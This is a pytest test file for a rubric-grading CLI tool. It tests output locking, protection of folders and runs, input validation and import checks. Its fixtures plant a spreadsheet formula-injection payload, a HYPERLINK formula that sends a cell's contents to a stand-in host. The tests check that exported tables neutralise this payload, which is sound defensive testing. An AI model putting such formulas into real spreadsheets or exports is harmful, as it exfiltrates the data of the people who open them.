"""Faults of outputs, runs, numbers and imports, tried as a careful but unlucky user would: one output rule for every
command, runs that cannot change unseen, numbers checked at the door, formula cells in every file written for people,
an import that checks what it promises. Each case failed (data lost, silently wrong, a traceback or an unclear
message) before the change that added it; docs/results.md ("Faults and hostile input") counts them.

The course is the chemistry-lab one (SAFE, METH, UNIT on 0..2, a 0..10 grade), 40 answers, one of them a spreadsheet
formula, trained once on a tiny BERT.
"""

from __future__ import annotations

import errno
import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from typer.testing import CliRunner

from rubrictool.cli import app
from rubrictool.io import read_table
from rubrictool.train.runs import RECORD, open_run, run_is_complete, sha256_file
from tests.support.courses import write_chemlab_tables
from tests.support.faults import ROOT, cli_env
from tests.support.tiny_models import build_backbone

pytestmark = pytest.mark.usefixtures("one_thread")
runner = CliRunner()
N = 40
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'
FORMULA_ID = "@SUM(1+1)"


def _one_line(output: str) -> str:
    flat = " ".join(output.split())
    assert "Traceback" not in output and "error" in flat, output[-2000:]
    return flat


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _snapshot(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.fixture(scope="module")
def course(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    d = tmp_path_factory.mktemp("course")
    files = write_chemlab_tables(d, N)
    table = pd.read_csv(files["table"], dtype={"id": str})
    table.loc[0, "response"] = FORMULA  # an answer a spreadsheet would run
    table.loc[0, "id"] = FORMULA_ID  # and an id
    table.to_csv(files["table"], index=False)
    return files | {"backbone": Path(build_backbone(d, "bert"))}


def _train_args(course: dict[str, Path], out: Path | str, *extra: str) -> list[str]:
    return ["train", "--table", str(course["table"]), "--rubric", str(course["rubric"]), "--backbone",
            str(course["backbone"]), "--epochs", "1", "--max-len", "32", "--out", str(out), "--device", "cpu",
            "--lr", "3e-3", "--cfg", "joint.epochs=1", *extra]


@pytest.fixture(scope="module")
def trained(course: dict[str, Path], tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("trained") / "run"
    res = runner.invoke(app, _train_args(course, out))
    assert res.exit_code == 0, res.output
    return out


# -- 1. one output rule ---------------------------------------------------------------------------------------------


def test_import_into_a_run_is_refused_and_the_run_still_opens(course: dict[str, Path], trained: Path) -> None:
    before = _snapshot(trained)
    for out in (trained / "table.csv", trained / "new.csv"):
        res = runner.invoke(app, ["data", "import", str(course["items"]), "--out", str(out)])
        assert res.exit_code == 1 and "inside the trained run" in _one_line(res.output), res.output
    assert _snapshot(trained) == before
    open_run(trained)


def test_adjudicate_into_a_run_is_refused_and_the_run_still_opens(course: dict[str, Path], trained: Path,
                                                                  tmp_path: Path) -> None:
    reviews = tmp_path / "reviews.csv"
    table = pd.read_csv(course["table"], dtype={"id": str})
    pd.DataFrame([{"item": i, "reviewer": r, "concept": k, "level": int(row[k])} for _, row in table.iterrows()
                  for r in ("ana", "ben") for i in [row["id"]] for k in ("SAFE", "METH", "UNIT")]).to_csv(reviews,
                                                                                                       index=False)
    before = _snapshot(trained)
    res = runner.invoke(app, ["adjudicate", "--rubric", str(course["rubric"]), "--reviews", str(reviews), "--items",
                              str(course["items"]), "--out", str(trained), "--bootstrap", "0"])
    assert res.exit_code == 1 and "is the trained run" in _one_line(res.output), res.output
    assert _snapshot(trained) == before
    open_run(trained)


@pytest.mark.parametrize("command", ["report", "explain", "intervene", "audit"])
def test_a_mistyped_run_creates_nothing(tmp_path: Path, command: str) -> None:
    typo = tmp_path / "runs" / "typo"
    args = [command, "--run", str(typo), *(["q.1"] if command == "explain" else [])]
    res = runner.invoke(app, args)
    assert res.exit_code == 1 and "no such run" in _one_line(res.output), res.output
    assert not typo.exists() and not (tmp_path / "runs").exists()


def test_train_out_a_link_to_a_run_retrains_the_run_it_points_to(course: dict[str, Path], trained: Path,
                                                                 tmp_path: Path) -> None:
    import shutil

    real = tmp_path / "runs" / "real"
    shutil.copytree(trained, real)
    link = tmp_path / "latest"
    link.symlink_to(real, target_is_directory=True)
    res = runner.invoke(app, _train_args(course, link))
    assert res.exit_code == 0, res.output
    assert link.is_symlink() and link.resolve() == real.resolve()
    assert json.loads((real / RECORD).read_text())["run_id"] != json.loads((trained / RECORD).read_text())["run_id"]
    assert not [p for p in tmp_path.rglob(".*") if ".old-" in p.name or ".building-" in p.name]
    open_run(link)


def test_train_out_inside_a_run_is_refused(course: dict[str, Path], trained: Path) -> None:
    before = _snapshot(trained)
    res = runner.invoke(app, _train_args(course, trained / "sub"))
    assert res.exit_code == 1 and "inside the trained run" in _one_line(res.output), res.output
    assert _snapshot(trained) == before


def test_two_grades_into_one_file_cannot_both_win(course: dict[str, Path], trained: Path, tmp_path: Path) -> None:
    out = tmp_path / "same.csv"
    holder = subprocess.Popen(  # a first `grade --out same.csv`, holding the output's lock while it grades
        [sys.executable, "-c", textwrap.dedent(f"""
            import sys, time
            from rubrictool.outputs import output_lock
            with output_lock({str(out)!r}, "grade"):
                print("held", flush=True)
                time.sleep(60)
        """)], env=cli_env(), cwd=str(ROOT), stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == "held"
        res = runner.invoke(app, ["grade", "--run", str(trained), "--items", str(course["items"]), "--out", str(out)])
        assert res.exit_code == 1 and "in use by another rubrictool grade" in _one_line(res.output), res.output
        assert not out.exists()
    finally:
        holder.kill()
        holder.wait()


def _folder_args(command: str, course: dict[str, Path], trained: Path, out: Path) -> list[str]:
    """A command writing a folder of outputs into ``out`` (the least it needs to reach its output check)."""
    table, rubric, items = str(course["table"]), str(course["rubric"]), str(course["items"])
    run = ["--run", str(trained)]
    return {"report": ["report", *run], "explain": ["explain", *run, FORMULA_ID],
            "intervene": ["intervene", *run], "audit": ["audit", *run], "diagnose": ["rubric", "diagnose", *run],
            "adjudicate": ["adjudicate", "--rubric", rubric, "--reviews", table, "--items", items],
            "annotate": ["annotate", "--rubric", rubric, "--data", items],
            "learning-curve": ["learning-curve", "--data", table, "--rubric", rubric],
            "ablate": ["ablate", "--data", table, "--rubric", rubric], "export": ["data", "export", "mohler"],
            "split": ["data", "split", items],
            "import": ["data", "import", items]}[command] + ["--out", str(out)]


FOLDER_COMMANDS = ["report", "explain", "intervene", "audit", "diagnose", "adjudicate", "annotate",
                   "learning-curve", "ablate", "export", "split", "import"]


@pytest.mark.parametrize("command", FOLDER_COMMANDS)
def test_a_folder_of_other_files_is_refused_as_out(course: dict[str, Path], trained: Path, tmp_path: Path,
                                                   command: str) -> None:
    mine = tmp_path / "mine"
    (mine / "notes").mkdir(parents=True)
    (mine / "thesis.md").write_text("# chapter 1\n", encoding="utf-8")
    (mine / "notes" / "a.txt").write_text("keep me\n", encoding="utf-8")
    before = _snapshot(mine)
    res = runner.invoke(app, _folder_args(command, course, trained, mine))
    flat = _one_line(res.output)
    assert res.exit_code == 1 and f"--out {mine} is an existing folder" in flat, res.output
    assert _snapshot(mine) == before and sorted(p.name for p in tmp_path.iterdir()) == ["mine"]


def test_a_commands_own_folder_is_replaced_and_an_empty_one_taken(trained: Path, tmp_path: Path) -> None:
    out = tmp_path / "why"
    out.mkdir()
    for _ in range(2):  # empty, then its own earlier output
        res = runner.invoke(app, ["explain", "--run", str(trained), FORMULA_ID, "--out", str(out)])
        assert res.exit_code == 0, res.output
    assert FORMULA_ID in set(read_table(out / "explain.csv")["id"])
    assert sorted(p.name for p in tmp_path.iterdir()) == ["why"]  # no lock file left


def _hold(out: Path, command: str) -> subprocess.Popen[str]:
    """A first command writing ``out``: it holds the output's lock, has made its folder, and is still at work
    (its files are written whole at the end)."""
    return subprocess.Popen([sys.executable, "-c", textwrap.dedent(f"""
        import pathlib, time
        from rubrictool.outputs import output_lock
        out = pathlib.Path({str(out)!r})
        with output_lock(out, {command!r}):
            if not out.suffix:
                out.mkdir()
            print("held", flush=True)
            time.sleep(60)
    """)], env=cli_env(), cwd=str(ROOT), stdout=subprocess.PIPE, text=True)


def _second_writer(command: str, course: dict[str, Path], trained: Path, out: Path) -> list[str]:
    rubric = str(course["rubric"])
    if command in FOLDER_COMMANDS and not out.suffix:
        return _folder_args(command, course, trained, out)
    if command == "gradebook":
        return ["grade", "--run", str(trained), "--data", str(course["items"]), "--gradebook",
                str(course["items"]), "--gradebook-out", str(out), "--out", str(out.with_name("g.csv"))]
    return {"rubric export": ["rubric", "export", rubric],
            "rubric points": ["rubric", "points", rubric, "--labels", str(course["table"])],
            "rubric new": ["rubric", "new", "--name", "x", "--concepts", "A,B", "--force"],
            "review pull": ["review", "pull", "--project", "p", "--rubric", rubric, "--url",
                            "http://127.0.0.1:9", "--api-key", "k"],
            "rubric fit-points": ["rubric", "fit-points", rubric, "--data", str(course["table"])],
            "split": ["data", "split", str(course["items"])], "export": ["data", "export", "mohler"],
            "import": ["data", "import", str(course["items"])]}[command] + ["--out", str(out)]


@pytest.mark.parametrize(("command", "name"), [
    *((c, "out") for c in FOLDER_COMMANDS if c not in ("split", "export", "import", "annotate")),
    ("split", "s.json"), ("export", "e.csv"), ("import", "i.csv"), ("rubric export", "r.md"),
    ("rubric points", "p.csv"), ("rubric new", "n.yaml"), ("rubric fit-points", "f.yaml"),
    ("review pull", "r.csv"), ("gradebook", "b.csv")])
def test_two_writers_of_one_output_cannot_both_win(course: dict[str, Path], trained: Path, tmp_path: Path,
                                                   command: str, name: str) -> None:
    out = tmp_path / name
    holder = _hold(out, "first")
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == "held"
        before = _snapshot(tmp_path)
        res = runner.invoke(app, _second_writer(command, course, trained, out))
        flat = _one_line(res.output)
        held = f"{out} is in use by another rubrictool first (pid {holder.pid}"
        assert res.exit_code == 1 and held in flat, res.output
        assert _snapshot(tmp_path) == before  # the first's output as it wrote it
    finally:
        holder.kill()
        holder.wait()


# -- 2. runs that cannot change unseen ------------------------------------------------------------------------------


def test_a_few_numbers_changed_between_the_sampled_blocks_are_refused(tmp_path: Path) -> None:
    run = tmp_path / "run"
    run.mkdir()
    weights = run / "model.safetensors"
    weights.write_bytes(os.urandom(20 * 2**20))  # larger than the files the old check hashed whole
    from rubrictool.train.runs import sample_sha256

    record: dict[str, Any] = {"format_version": 2, "files": {"model.safetensors": {
        "bytes": weights.stat().st_size, "sha256": sha256_file(weights), "sample_sha256": sample_sha256(weights)}}}
    (run / RECORD).write_text(json.dumps(record))
    assert run_is_complete(run)
    with open(weights, "r+b") as fh:  # 1,024 float32 written between two of the 64 sampled blocks
        fh.seek(20 * 2**20 // 63 + 100 * 1024)
        fh.write(b"\x00\x00\x80\x3f" * 1024)
    assert sample_sha256(weights) == record["files"]["model.safetensors"]["sample_sha256"]  # the old check passed it
    assert not run_is_complete(run)


def test_a_kill_between_the_renames_names_the_kept_run_and_the_command_that_restores_it(
        course: dict[str, Path], trained: Path, tmp_path: Path) -> None:
    import shutil

    for where in ("beside", "inside"):
        run = tmp_path / where / "run"
        run.parent.mkdir()
        old = run.parent / f".run.old-{os.getpid() + 999_999}-abcd1234"
        shutil.copytree(trained, old)
        if where == "inside":  # a folder at the run's place, the old run moved into it (`mv` as once advised)
            (run / "report").mkdir(parents=True)
            old = old.rename(run / old.name)
        for command in (["report", "--run", str(run)],
                        ["grade", "--run", str(run), "--items", str(course["items"]),
                         "--out", str(tmp_path / "g.csv")]):
            res = runner.invoke(app, command)
            flat = _one_line(res.output)
            assert res.exit_code == 1 and str(old) in flat and "put it back with `mv " in flat, res.output
        assert not (run / "report").exists() or where == "inside"
        fix = flat.split("put it back with `", 1)[1].split("`", 1)[0]
        subprocess.run(["bash", "-c", fix], check=True, cwd=tmp_path)
        assert open_run(run).record["run_id"] == json.loads((trained / RECORD).read_text())["run_id"]


# -- 3. numbers checked at the door ---------------------------------------------------------------------------------


@pytest.mark.parametrize("args", [["grade", "--batch-size", "0"], ["grade", "--batch-size", "-3"],
                                  ["train", "--epochs", "0"], ["train", "--epochs", "-1"], ["train", "--lr", "nan"],
                                  ["train", "--lr", "inf"], ["train", "--lr", "-1e-3"], ["train", "--folds", "1"],
                                  ["learning-curve", "--dev-share", "1.5"], ["annotate", "--per-question", "0"],
                                  ["audit", "--batch-size", "0"],
                                  ["data", "import", "x.csv", "--grade-scale", "0"]],
                         ids=lambda a: "-".join(a).replace("--", ""))
def test_numbers_out_of_range_are_one_line_errors(course: dict[str, Path], trained: Path, tmp_path: Path,
                                               args: list[str]) -> None:
    more = {"grade": ["--run", str(trained), "--items", str(course["items"]), "--out", str(tmp_path / "g.csv")],
            "train": ["--table", str(course["table"]), "--rubric", str(course["rubric"]), "--out", str(tmp_path / "r")]}
    res = runner.invoke(app, [*args, *more.get(args[0], [])])
    flat = _one_line(res.output)
    assert res.exit_code == 1 and flat.startswith(f"error: {args[-2]} ") and ": give " in flat, res.output
    assert not (tmp_path / "r").exists() and not (tmp_path / "g.csv").exists()


def test_a_learning_rate_for_a_frozen_encoder_is_said_to_be_unused(course: dict[str, Path], tmp_path: Path) -> None:
    res = runner.invoke(app, ["train", "--table", str(tmp_path / "missing.csv"), "--rubric", str(course["rubric"]),
                              "--encoder", "frozen", "--lr", "1e-3", "--out", str(tmp_path / "r")])
    assert "--lr is not used" in " ".join(res.output.split()), res.output


def test_an_empty_id_is_refused_with_its_line(trained: Path, tmp_path: Path) -> None:
    data = tmp_path / "new.csv"
    data.write_text("id,question,response\na1,What is safe?,goggles\n,What is safe?,gloves\n", encoding="utf-8")
    res = runner.invoke(app, ["grade", "--run", str(trained), "--items", str(data), "--out", str(tmp_path / "g.csv")])
    assert res.exit_code == 1 and "without an id: line 3" in _one_line(res.output), res.output
    assert not (tmp_path / "g.csv").exists()


@pytest.mark.parametrize("case", ["repeated", "empty"])
def test_train_and_grade_refuse_a_repeated_or_empty_id_naming_its_line(course: dict[str, Path], trained: Path,
                                                                       tmp_path: Path, case: str) -> None:
    table = pd.read_csv(course["table"], dtype={"id": str})
    items = pd.read_csv(course["items"], dtype={"id": str})
    for df in (table, items):
        df["id"] = [str(df["id"].iloc[2]) if i == 5 and case == "repeated" else None if i == 5 else v
                    for i, v in enumerate(df["id"])]  # line 7 (the header is line 1)
    table.to_csv(tmp_path / "adjudicated.csv", index=False)
    items.to_csv(tmp_path / "items.csv", index=False)
    expect = (f"used more than once: {table.loc[2, 'id']!r} ({table.loc[2, 'id']!r} on lines 4 and 7"
              if case == "repeated" else "1 answer(s) without an id: line 7")
    res = runner.invoke(app, _train_args({**course, "table": tmp_path / "adjudicated.csv"}, tmp_path / "r"))
    assert res.exit_code == 1 and expect in _one_line(res.output), res.output
    expect = expect.replace(repr(table.loc[2, "id"]), repr(items.loc[2, "id"]))
    res = runner.invoke(app, ["grade", "--run", str(trained), "--data", str(tmp_path / "items.csv"), "--out",
                              str(tmp_path / "g.csv")])
    assert res.exit_code == 1 and expect in _one_line(res.output), res.output
    assert not (tmp_path / "r").exists() and not (tmp_path / "g.csv").exists()


def test_xlsx_rows_are_cited_as_the_sheet_numbers_them(tmp_path: Path) -> None:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.append([None, None])
    ws.append([None, None])  # two blank rows above the header (row 3)
    ws.append(["answer", "mark"])
    ws.append(["goggles", 2])
    ws.append(["gloves", 1])
    ws.append([None, None])  # a blank row inside the data
    ws.append(["a fume hood", "B+"])  # sheet row 7
    wb.save(tmp_path / "marks.xlsx")
    res = runner.invoke(app, ["data", "import", str(tmp_path / "marks.xlsx"), "--out", str(tmp_path / "items.csv")])
    assert res.exit_code == 1 and "row 7, column 'mark'" in _one_line(res.output), res.output


# -- 4. formula cells -----------------------------------------------------------------------------------------------


def test_a_runs_tables_and_explain_are_neutralised_and_read_back_verbatim(trained: Path, tmp_path: Path) -> None:
    for name in ("table.csv", "test_predictions.csv"):
        raw = pd.read_csv(trained / name, dtype=str, keep_default_na=False)  # what a spreadsheet reads
        for col in raw.columns:
            assert not any(str(v).startswith(("=", "+", "-", "@")) and not _number(v) for v in raw[col]), (name, col)
    run = open_run(trained)
    assert FORMULA in set(run.load_table()["response"])
    out = tmp_path / "explain"
    res = runner.invoke(app, ["explain", "--run", str(trained), FORMULA_ID, "--out", str(out)])
    assert res.exit_code == 0, res.output
    cells = pd.read_csv(out / "explain.csv", dtype=str, keep_default_na=False).to_numpy().ravel()
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
    assert FORMULA_ID in set(read_table(out / "explain.csv")["id"])


def test_a_users_own_csv_is_read_exactly_as_written(trained: Path, tmp_path: Path) -> None:
    data = tmp_path / "mine.csv"
    answer = "'+' adds two numbers"
    data.write_text(f"id,question,response\na1,What does + do?,{answer}\n", encoding="utf-8")
    assert read_table(data)["response"].iloc[0] == answer
    out = tmp_path / "graded.csv"
    res = runner.invoke(app, ["grade", "--run", str(trained), "--items", str(data), "--out", str(out)])
    assert res.exit_code == 0, res.output
    assert read_table(out)["response"].iloc[0] == answer


# -- 5. import that checks what it promises, and the remaining messages ----------------------------------------------


def test_made_ids_are_not_promised_unique_and_against_checks_them(tmp_path: Path) -> None:
    first, second = tmp_path / "fall.csv", tmp_path / "spring.csv"
    first.write_text("student,question,answer,mark\nStudent 1,Q1,goggles,2\nStudent 2,Q1,gloves,1\n")
    second.write_text("student,question,answer,mark\nStudent 1,Q1,a fume hood,2\nStudent 2,Q1,nothing,0\n")
    res = runner.invoke(app, ["data", "import", str(first), "--out", str(tmp_path / "fall-items.csv")])
    assert res.exit_code == 0 and "do not collide" not in res.output and "--against" in res.output, res.output
    res = runner.invoke(app, ["data", "import", str(second), "--out", str(tmp_path / "spring-items.csv"),
                              "--against", str(tmp_path / "fall-items.csv")])
    assert res.exit_code == 1 and "already name another answer" in _one_line(res.output), res.output
    assert not (tmp_path / "spring-items.csv").exists()


def test_a_semicolon_file_imports_and_repeated_headers_are_warned(tmp_path: Path) -> None:
    semi = tmp_path / "semi.csv"
    semi.write_text("id;answer;mark\na1;goggles, always;2\na2;gloves;1\n", encoding="utf-8")
    res = runner.invoke(app, ["data", "import", str(semi), "--out", str(tmp_path / "a.csv")])
    assert res.exit_code == 0 and "delimiter: ';'" in res.output, res.output
    assert list(read_table(tmp_path / "a.csv")["response"]) == ["goggles, always", "gloves"]
    dup = tmp_path / "dup.csv"
    dup.write_text("id,Answer,Answer,mark\na1,first,second,2\n", encoding="utf-8")
    res = runner.invoke(app, ["data", "import", str(dup), "--out", str(tmp_path / "b.csv")])
    assert res.exit_code == 0 and "both headed 'Answer'" in " ".join(res.output.split()), res.output


def test_a_killed_imports_temporary_file_is_removed(course: dict[str, Path], tmp_path: Path) -> None:
    out = tmp_path / "items.csv"
    stale = tmp_path / ".items.csv.k1ll3d.tmp"
    stale.write_bytes(b"id,response\n" * 1000)
    res = runner.invoke(app, ["data", "import", str(course["items"]), "--out", str(out)])
    assert res.exit_code == 0 and out.is_file() and not stale.exists(), res.output
    assert "temporary file" in res.output


def test_ctrl_c_in_train_does_not_claim_anything_was_kept(course: dict[str, Path], tmp_path: Path,
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    import rubrictool.pipeline

    def interrupted(**_: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(rubrictool.pipeline, "run_train", interrupted)
    res = runner.invoke(app, _train_args(course, tmp_path / "r"))
    flat = " ".join(res.output.split())
    assert res.exit_code == 130 and "everything already written is kept" not in flat
    assert "the run was not written" in flat and not (tmp_path / "r").exists()


def test_the_dry_run_of_a_huge_prompt_does_not_print_all_of_it() -> None:
    from io import StringIO

    from rich.console import Console

    from rubrictool.annotate.dryrun import DryRunReport
    from rubrictool.cli.annotate import print_dry_run

    buf = StringIO()
    prompt = "word " * 180_000  # 900 KB
    print_dry_run(DryRunReport(prompts=[("a1", prompt)], models=[], items=1, response_formats={}),
                  Console(file=buf, width=120))
    assert len(buf.getvalue()) < 20_000 and "not shown" in buf.getvalue()


def test_grade_int8_says_that_it_changes_grades(course: dict[str, Path], trained: Path, tmp_path: Path) -> None:
    res = runner.invoke(app, ["grade", "--run", str(trained), "--items", str(course["items"]), "--int8", "--out",
                              str(tmp_path / "g.csv")])
    assert res.exit_code == 0 and "some grades differ" in " ".join(res.output.split()), res.output


def test_learning_curve_on_a_full_disk_is_one_line(course: dict[str, Path], tmp_path: Path,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    import rubrictool.curve

    def full(**_: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device", str(tmp_path / "c" / "curve.json"))

    monkeypatch.setattr(rubrictool.curve, "run_learning_curve", full)
    res = runner.invoke(app, ["learning-curve", "--table", str(course["table"]), "--rubric", str(course["rubric"]),
                              "--out", str(tmp_path / "c")])
    flat = _one_line(res.output)
    assert res.exit_code == 1 and "No space left on device" in flat and "curve.json" in flat, res.output


def test_split_over_a_file_that_is_not_a_split_is_refused(course: dict[str, Path], tmp_path: Path) -> None:
    notes = tmp_path / "notes.json"
    notes.write_text('{"my": "notes"}\n', encoding="utf-8")
    res = runner.invoke(app, ["data", "split", str(course["items"]), "--out", str(notes)])
    assert res.exit_code == 1 and "is not a split file" in _one_line(res.output), res.output
    assert notes.read_text(encoding="utf-8") == '{"my": "notes"}\n'
    split = tmp_path / "split.json"
    for _ in range(2):  # its own earlier output is replaced
        res = runner.invoke(app, ["data", "split", str(course["items"]), "--out", str(split)])
        assert res.exit_code == 0, res.output
